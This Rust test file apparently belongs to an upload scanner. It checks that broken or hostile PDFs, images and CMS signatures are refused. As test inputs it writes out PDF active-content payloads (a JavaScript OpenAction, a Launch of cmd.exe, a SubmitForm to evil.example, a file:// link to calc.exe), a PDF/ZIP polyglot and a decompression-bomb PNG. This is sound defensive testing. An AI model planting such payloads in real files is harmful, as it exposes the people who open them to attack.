//! The malformed corpus (R4.4; research/security.md rows 24–29): each hostile or broken file is
//! refused with its reason, and the good ones pass.
use motcua_domain::dossier::FileKind;
use motcua_scan::samples::{heic, jpeg, pdf, pdf_with, png, png_declaring, webp};
use motcua_scan::{Allow, Problem, inspect};

fn check(kind: FileKind, bytes: &[u8]) -> Result<(), Problem> {
    inspect(kind, bytes, Allow::default())
}

#[test]
fn good_files_pass() {
    check(FileKind::Pdf, &pdf(5000)).unwrap();
    check(FileKind::Pdf, &pdf(300)).unwrap();
    check(FileKind::Jpeg, &jpeg(4000)).unwrap();
    check(FileKind::Png, &png(64, 48)).unwrap();
    check(FileKind::Webp, &webp(32, 32)).unwrap();
    check(FileKind::Heic, &heic(4000, 3000)).unwrap();
    assert_eq!(pdf(5000).len(), 5000);
    assert_eq!(jpeg(4000).len(), 4000);
    assert_eq!(pdf(1024 * 1024 + 10).len(), 1024 * 1024 + 10);
}

#[test]
fn a_truncated_pdf_is_refused() {
    let whole = pdf(4000);
    for cut in [100, 2000, whole.len() - 10] {
        assert!(
            matches!(
                check(FileKind::Pdf, &whole[..cut]),
                Err(Problem::PdfBroken(_))
            ),
            "cut at {cut}"
        );
    }
}

#[test]
fn a_pdf_with_a_broken_cross_reference_table_is_refused() {
    let mut v = pdf(3000);
    let at = v.windows(4).position(|w| w == b"xref").unwrap();
    v[at..at + 4].copy_from_slice(b"xxxx");
    assert!(matches!(
        check(FileKind::Pdf, &v),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn a_pdf_with_no_pages_is_refused() {
    let v = pdf(3000);
    let t = String::from_utf8_lossy(&v).replace("/Kids [3 0 R] /Count 1", "/Kids [] /Count 0");
    assert!(matches!(
        check(FileKind::Pdf, t.as_bytes()),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn scripts_and_actions_in_a_pdf_are_refused() {
    for extra in [
        "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/AA << /O << /S /JavaScript /JS (x) >> >>",
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>",
        "/AcroForm << /Fields [] /XFA (x) >>",
        "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
        "/OpenAction << /S /GoToR /F (\\\\\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        "/OpenAction << /S /URI /URI (file:///C:/Windows/system32/calc.exe) >>",
    ] {
        let v = pdf_with("script", extra, 3000);
        assert!(
            matches!(check(FileKind::Pdf, &v), Err(Problem::PdfActive(_))),
            "{extra}"
        );
    }
}

#[test]
fn an_embedded_file_is_refused_unless_the_component_allows_it() {
    let v = pdf_with(
        "bundle",
        "/Names << /EmbeddedFiles << /Names [(a.txt) << /Type /Filespec /F (a.txt) >>] >> >>",
        3000,
    );
    assert_eq!(check(FileKind::Pdf, &v), Err(Problem::PdfEmbedded));
    let allow = Allow {
        embedded_files: true,
    };
    inspect(FileKind::Pdf, &v, allow).unwrap();
}

#[test]
fn a_pdf_and_zip_polyglot_is_refused() {
    let mut v = pdf(3000);
    // A ZIP appended: its local header, and the end-of-central-directory record.
    v.extend(b"PK\x03\x04\x14\x00\x00\x00\x00\x00");
    v.extend(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x2e\x00\x00\x00\x10\x00\x00\x00\x00\x00");
    assert!(matches!(check(FileKind::Pdf, &v), Err(Problem::Hidden(_))));
    // Hidden inside a comment before the end marker, it is still a ZIP to an unpacker: its
    // central directory, then its end record.
    let zip = "PK\u{1}\u{2}012345678901234567890123456789012345678901PK\u{5}\u{6}\0\0\0\0\u{1}\0\u{1}\0\u{2e}\0\0\0\0\0\0\0\0\0";
    let t = String::from_utf8_lossy(&pdf(3000)).replace("% motcua ", &format!("% motcua {zip}"));
    assert!(matches!(
        check(FileKind::Pdf, t.as_bytes()),
        Err(Problem::Hidden(_))
    ));
    // Compressed bytes that happen to spell the record's signature are not a ZIP.
    let t = String::from_utf8_lossy(&pdf(3000)).replacen("xxxx", "PK\u{5}\u{6}", 1);
    check(FileKind::Pdf, t.as_bytes()).unwrap();
}

#[test]
fn real_pdfs_pass() {
    // Written by lopdf, and signed here (an incremental update with its own table).
    let sample = motcua_signature::demo::sample_pdf("Giay phep", 20_000);
    check(FileKind::Pdf, &sample).unwrap();
    check(
        FileKind::Pdf,
        include_bytes!("../../../fuzz/corpus/signatures/motcua-result.pdf"),
    )
    .unwrap();
    // Appended bytes after a signed file's end are refused; a proper update is not.
    let mut more = include_bytes!("../../../fuzz/corpus/signatures/motcua-result.pdf").to_vec();
    more.extend(b"\n9 0 obj (them) endobj\n");
    assert!(matches!(
        check(FileKind::Pdf, &more),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn real_signatures_and_phone_photos_pass() {
    check(
        FileKind::Cms,
        include_bytes!("../../../fuzz/corpus/signatures/openssl-attached.p7s"),
    )
    .unwrap();
    check(
        FileKind::Cms,
        include_bytes!("../../../fuzz/corpus/signatures/openssl-detached.p7s"),
    )
    .unwrap();
    let mut cut = include_bytes!("../../../fuzz/corpus/signatures/openssl-attached.p7s").to_vec();
    cut.extend(b"more");
    assert_eq!(
        check(FileKind::Cms, &cut),
        Err(Problem::CmsBroken),
        "nothing after it"
    );
    // A motion photo: the video follows the JPEG's end.
    let mut motion = jpeg(4000);
    motion.extend(b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom");
    check(FileKind::Jpeg, &motion).unwrap();
}

#[test]
fn anything_after_a_pdf_end_is_refused() {
    let mut v = pdf(3000);
    v.extend(b"<html><script>alert(1)</script></html>");
    assert!(matches!(
        check(FileKind::Pdf, &v),
        Err(Problem::PdfBroken(_))
    ));
}

#[test]
fn a_decompression_bomb_png_is_refused_before_decoding() {
    let v = png_declaring(50_000, 50_000);
    assert_eq!(
        check(FileKind::Png, &v),
        Err(Problem::TooManyPixels(50_000, 50_000))
    );
}

#[test]
fn broken_images_are_refused() {
    let j = jpeg(4000);
    assert!(matches!(
        check(FileKind::Jpeg, &j[..j.len() / 2]),
        Err(Problem::ImageBroken(_))
    ));
    let p = png(64, 48);
    assert!(matches!(
        check(FileKind::Png, &p[..p.len() - 30]),
        Err(Problem::ImageBroken(_))
    ));
    let mut trailing = png(64, 48);
    trailing.extend(b"%PDF-1.7 hidden");
    assert!(matches!(
        check(FileKind::Png, &trailing),
        Err(Problem::Hidden(_))
    ));
    let w = webp(32, 32);
    assert!(matches!(
        check(FileKind::Webp, &w[..w.len() - 8]),
        Err(Problem::ImageBroken(_))
    ));
    let mut after = webp(32, 32);
    after.extend(b"%PDF-1.7 hidden");
    assert!(matches!(
        check(FileKind::Webp, &after),
        Err(Problem::Hidden(_))
    ));
}

#[test]
fn heic_boxes_are_checked() {
    let big = heic(60_000, 60_000);
    assert_eq!(
        check(FileKind::Heic, &big),
        Err(Problem::TooManyPixels(60_000, 60_000))
    );
    let good = heic(4000, 3000);
    assert!(matches!(
        check(FileKind::Heic, &good[..good.len() - 5]),
        Err(Problem::ImageBroken(_))
    ));
}

#[test]
fn a_cms_file_must_be_signed_data_and_nothing_more() {
    assert_eq!(
        check(FileKind::Cms, b"0\x82\x01\x00garbage"),
        Err(Problem::CmsBroken)
    );
    // A DER SEQUENCE that is not a ContentInfo of SignedData.
    assert_eq!(
        check(FileKind::Cms, &[0x30, 0x03, 0x02, 0x01, 0x00]),
        Err(Problem::CmsBroken)
    );
}
